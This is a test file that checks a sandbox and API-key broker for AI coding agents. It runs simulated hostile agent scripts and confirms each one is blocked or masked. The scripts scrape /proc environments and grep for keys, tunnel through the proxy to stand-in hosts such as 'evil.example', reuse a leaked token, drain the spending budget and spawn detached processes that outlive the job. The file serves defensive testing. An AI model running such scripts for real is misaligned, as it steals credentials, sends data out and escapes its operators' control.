// What an agent program does to get at its key, to spend more than it may, and to send things away.
import { chmodSync, writeFileSync } from 'node:fs';
import type { ServerResponse } from 'node:http';
import { join } from 'node:path';
import { expect } from 'vitest';
import { KEY, MESSAGE, startProvider } from '../../support/broker.ts';
import { programFolder, running } from '../../support/programs.ts';
import type { Ended } from '../../support/runner.ts';
import type { Attack, Place, Scene } from './scene.ts';

type Provider = Awaited<ReturnType<typeof startProvider>>;

/**
 * `ask` sends a request with the word that stands in the key's place. After one to a silent provider,
 * `arrived` says when it was there.
 */
const START = `
const fs = require('node:fs'), net = require('node:net');
const { ANTHROPIC_API_KEY: word, ANTHROPIC_BASE_URL: base, HTTPS_PROXY: proxy } = process.env;
const write = (text) => fs.writeFileSync('docs/answer.md', '# Answer\\n\\n' + text + '\\n');
const ask = (path = '/v1/messages', key = word) =>
  fetch(base + path, { method: 'POST', headers: { 'x-api-key': key }, body: '{}' });
const arrived = () => fetch(base + '/v1/models', { headers: { 'x-api-key': word } });
const connect = (host) => new Promise((resolve) => {
  if (!proxy) return resolve('no proxy');
  const { port, hostname } = new URL(proxy);
  const socket = net.connect(Number(port), hostname, () =>
    socket.write('CONNECT ' + host + ' HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n'));
  socket.on('close', () => resolve('closed'));
  socket.once('data', (chunk) => { socket.destroy(); resolve(chunk.toString().split('\\r\\n')[0]); });
});
`;

const settings = (more = '') => `agent: { env: [ANTHROPIC_API_KEY, ANTHROPIC_BASE_URL] }\n${more}`;

interface Network {
  what: string;
  must: string;
  /** Of the agent, after `START`. */
  script: string;
  settings?: string;
  handler?: Parameters<typeof startProvider>[0];
  /** Programs that the machine does not have. */
  without?: string[] | undefined;
  see(
    ended: Ended,
    place: Place,
    run: { provider: Provider; again(script: string): Promise<Ended> },
  ): Promise<void> | void;
}

const network = ({ what, must, script, handler, without, see, ...more }: Network): Attack => ({
  category: 'network',
  what,
  must,
  async see(scene) {
    const provider = await startProvider(handler);
    const place = await scene.place({ '.github/docket.yml': settings(more.settings) });
    const PATH = without && programFolder(scene.dir(), { without });
    const ask = (text: string) =>
      place.ask('/docs explain the flag', {
        inputs: { 'agent-command': `'${process.execPath}' '${program(scene, text)}'` },
        env: { ANTHROPIC_API_KEY: KEY, ANTHROPIC_BASE_URL: provider.url, ...(PATH && { PATH }) },
      });
    const ended = await ask(script);
    expect(place.published(ended)).not.toContain(KEY);
    await see(ended, place, { provider, again: ask });
  },
});

function program(scene: Scene, script: string): string {
  const dir = scene.dir();
  chmodSync(dir, 0o755);
  const file = join(dir, 'agent.cjs');
  writeFileSync(
    file,
    `${START}(async () => {${script}; console.log('Wrote the answer.'); process.exit(0); })();\n`,
  );
  return file;
}

/** Elsewhere the log must say that the network is open. */
function isClosed({ log }: Ended): boolean {
  const closed = log.includes('Agents run under bubblewrap');
  if (!closed) expect(log).toContain('The network is open');
  return closed;
}

/** Answers no message, and each request for its models once another message has come. */
function silentProvider(): Parameters<typeof startProvider>[0] {
  const asking: ServerResponse[] = [];
  let arrived = 0;
  return ({ method }, response) => {
    if (method === 'GET') asking.push(response);
    else arrived += 1;
    while (arrived > 0 && asking.length > 0) {
      arrived -= 1;
      asking.shift()?.end('{}');
    }
  };
}

const messages = ({ seen }: Provider) => seen.filter(({ method }) => method === 'POST').length;

const KINDS: [kind: string, without: string[] | undefined][] = [
  ['as it is', undefined],
  ['as another user', ['bwrap']],
  ['without isolation', ['bwrap', 'sudo', 'setpriv']],
];

const ROWS: Network[] = [
  {
    what: 'an agent that publishes its environment and those of all processes it sees',
    must: 'publishes no key, because it has none',
    script: `await ask();
      const all = fs.readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name)).map((pid) => {
        try { return fs.readFileSync('/proc/' + pid + '/environ', 'latin1') + fs.readFileSync('/proc/' + pid + '/cmdline', 'latin1'); } catch { return ''; }
      });
      const text = JSON.stringify(process.env) + all.join(' ');
      write(/sk-real/.test(text) ? text : 'nothing found')`,
    async see(ended, place, { provider }) {
      expect(ended.outputs.outcome).toBe('pull-request');
      expect(await place.made('docs/answer.md')).toContain('nothing found');
      expect(provider.seen[0]?.headers['x-api-key']).toBe(KEY);
    },
  },
  {
    what: 'an agent that sends the repository to a host that is not listed',
    must: 'is refused, and the reviewer reads it',
    script: "write(await connect('evil.example:443'))",
    async see(ended, place) {
      if (!isClosed(ended)) return;
      expect(await place.made('docs/answer.md')).toContain('HTTP/1.1 403 Forbidden');
      const [pull] = await place.repository.pulls();
      expect(pull?.body).toContain('The agent tried to reach `evil.example:443`');
      expect(ended.summary).toContain('What left the machine');
    },
  },
  {
    what: 'an agent that names a host in a way that would be Markdown, HTML, or a mention',
    must: 'is refused, and its words do nothing in the pull request',
    script: "write(await connect('**@ann**.evil.example:443'))",
    async see(ended, place) {
      if (!isClosed(ended)) return;
      const [pull] = await place.repository.pulls();
      expect(pull?.body).toMatch(/The agent tried to reach `[^`@]*@\W*ann/);
      expect(pull?.body).not.toContain('@ann');
    },
  },
  {
    what: 'an agent that asks its provider for something else',
    must: 'is refused before anything is sent',
    script: "const { status } = await ask('/v1/files'); write(String(status))",
    async see(_, place, { provider }) {
      expect(await place.made('docs/answer.md')).toContain('403');
      expect(provider.seen).toEqual([]);
    },
  },
  {
    what: 'an agent that publishes its word, and a later one that uses it',
    must: 'gets no answer for it',
    script: 'write(word)',
    async see(_, place, { provider, again }) {
      const word = /docket-[\w-]{43}/.exec((await place.made('docs/answer.md')) ?? '')?.[0] ?? '';
      expect(word).not.toBe('');
      const ended = await again(
        `const { status } = await ask('/v1/messages', ${JSON.stringify(word)}); write(String(status))`,
      );
      expect(ended.outputs.outcome).toBe('pull-request');
      expect(await place.made('docs/answer.md')).toContain('401');
      expect(provider.seen).toEqual([]);
    },
  },
  {
    what: 'a provider that repeats the key in an error, and an agent that publishes it',
    must: 'publishes no key',
    script: 'write(await (await ask()).text())',
    handler: ({ headers }, response) =>
      void response.writeHead(401).end(`wrong key: ${headers['x-api-key']}`),
    async see(_, place) {
      expect(await place.made('docs/answer.md')).toContain('wrong key: ***');
    },
  },
  {
    what: 'an agent program that asks and asks',
    must: 'is stopped when the budget is used up',
    script: 'write("begun"); for (;;) await (await ask()).text()',
    settings: 'prices: { input: 1000, output: 1000 }\nbudget: { day: 0.10 }\n',
    async see(ended, place, { provider }) {
      expect(place.said()).toContain('has used up its budget of $0.10');
      expect(ended.outputs.outcome).toBe('failed');
      // Each answer has 15 tokens, one and a half cents.
      expect(provider.seen.length).toBeLessThan(20);
    },
  },
  {
    what: 'a provider that does not say what an agent program used',
    must: 'ends the turn, because the budget could not be kept',
    script: 'write("begun"); for (;;) await (await ask()).text()',
    handler: (_, response) =>
      void response.end(JSON.stringify({ ...MESSAGE, usage: { input_tokens: -5 } })),
    settings: 'prices: { input: 1000, output: 1000 }\nbudget: { day: 0.10 }\n',
    async see(_, place, { provider }) {
      expect(place.said()).toContain('did not report the tokens it used');
      expect(provider.seen.length).toBeLessThan(5);
    },
  },
  {
    what: 'an agent that hangs up before each answer',
    must: 'has spent what it may have used, and the job does not say that it was nothing',
    script: `write('begun'); const http = require('node:http'); const { hostname, port } = new URL(base);
      for (let n = 0; n < 5; n += 1) await new Promise((resolve) => {
        const asked = http.request({ hostname, port, path: '/v1/messages', method: 'POST', headers: { 'x-api-key': word } });
        asked.on('error', resolve); asked.on('close', resolve); asked.end('{"max_tokens":1000}');
        arrived().then(() => asked.destroy());
      })`,
    handler: silentProvider(),
    settings: 'prices: { input: 1000, output: 1000 }\n',
    see(ended, place, { provider }) {
      expect(messages(provider)).toBe(5);
      expect(place.said()).toContain('not measured');
      expect(place.said()).not.toContain('$0.00');
      expect(ended.outputs.outcome).toBe('pull-request');
    },
  },
  {
    what: 'an agent that hangs up before each answer, with a budget',
    must: 'is stopped when what it may have used is all of it',
    script: `write('begun'); const http = require('node:http'); const { hostname, port } = new URL(base);
      for (;;) await new Promise((resolve) => {
        const asked = http.request({ hostname, port, path: '/v1/messages', method: 'POST', headers: { 'x-api-key': word } });
        asked.on('error', resolve); asked.on('close', resolve); asked.end('{"max_tokens":1000}');
        arrived().then(() => asked.destroy());
      })`,
    handler: silentProvider(),
    settings: 'prices: { input: 1000, output: 1000 }\nbudget: { day: 5 }\n',
    see(_, place, { provider }) {
      expect(place.said()).toContain('has used up its budget of $5.00');
      expect(messages(provider)).toBeLessThan(12);
    },
  },
  ...(['base64', 'hex', 'latin1'] as const).map(
    (encoding): Network => ({
      what: `a provider that repeats the key in a good answer, as ${encoding}, in two pieces`,
      must: 'gives the agent no key',
      script: 'write(await (await ask()).text())',
      handler: ({ headers }, response) => {
        const said = Buffer.from(`${headers['x-api-key']}`).toString(encoding);
        response.write(`data: {"text":"${said.slice(0, 11)}`);
        setTimeout(() => response.end(`${said.slice(11)}"}\n\n`), 50);
      },
      async see(ended, place) {
        const page = (await place.made('docs/answer.md')) ?? ended.log;
        expect(page).not.toContain(Buffer.from(KEY).toString(encoding));
        expect(page).toContain('***');
      },
    }),
  ),
  ...KINDS.slice(1).flatMap(([kind, without]): Network[] => [
    {
      what: `another process that knocks at the broker, and holds hundreds of connections open, ${kind}`,
      must: 'leaves no trace in the job, and the agent gets its answer',
      without,
      script: `const { hostname, port } = new URL(base);
      const idle = Array.from({ length: 200 }, () => net.connect(Number(port), hostname).on('error', () => {}));
      const knock = net.connect(Number(port), hostname, () => knock.write('CONNECT steal-the-secrets.example:443 HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n'));
      await new Promise((resolve) => knock.on('error', resolve).on('close', resolve).resume());
      const first = (await ask()).status;
      await Promise.all(idle.map((one) => one.closed || new Promise((resolve) => one.on('close', resolve).resume())));
      write(first + ' and ' + (await ask()).status)`,
      async see(ended, place) {
        expect(isClosed(ended)).toBe(false);
        expect(await place.made('docs/answer.md')).toContain('200 and 200');
        const [pull] = await place.repository.pulls();
        expect(pull?.body).not.toContain('steal-the-secrets');
        expect(ended.summary).not.toContain('steal-the-secrets');
      },
    },
    {
      what: `an agent that looks for its key in its environment, its files, and its parents, ${kind}`,
      must: 'has only the word that the broker takes',
      without,
      script: `await ask(); const { execSync } = require('node:child_process');
      const found = execSync('env; cat /proc/self/environ; grep -ar sk-real "$HOME" "$TMPDIR" . || true', { encoding: 'latin1' });
      write(/sk-real/.test(found) ? found : 'nothing found')`,
      async see(ended, place, { provider }) {
        expect(isClosed(ended)).toBe(false);
        expect(await place.made('docs/answer.md')).toContain('nothing found');
        expect(provider.seen[0]?.headers['x-api-key']).toBe(KEY);
      },
    },
  ]),
  ...KINDS.map(
    ([kind, without]): Network => ({
      what: `an agent that survives its job, in a group of its own and without its environment, ${kind}`,
      must: 'is ended with it',
      without,
      script: `const { spawn } = require('node:child_process'); await ask();
      spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)', 'survivor ' + word], { detached: true, stdio: 'ignore', env: {} }).unref();
      write(word)`,
      async see(ended, place) {
        expect(ended.outputs.outcome).toBe('pull-request');
        const [word = 'none'] =
          /docket-[\w-]{43}/.exec((await place.made('docs/answer.md')) ?? '') ?? [];
        expect(running(`survivor ${word}`)).toEqual([]);
      },
    }),
  ),
];

export const NETWORK: Attack[] = ROWS.map(network);
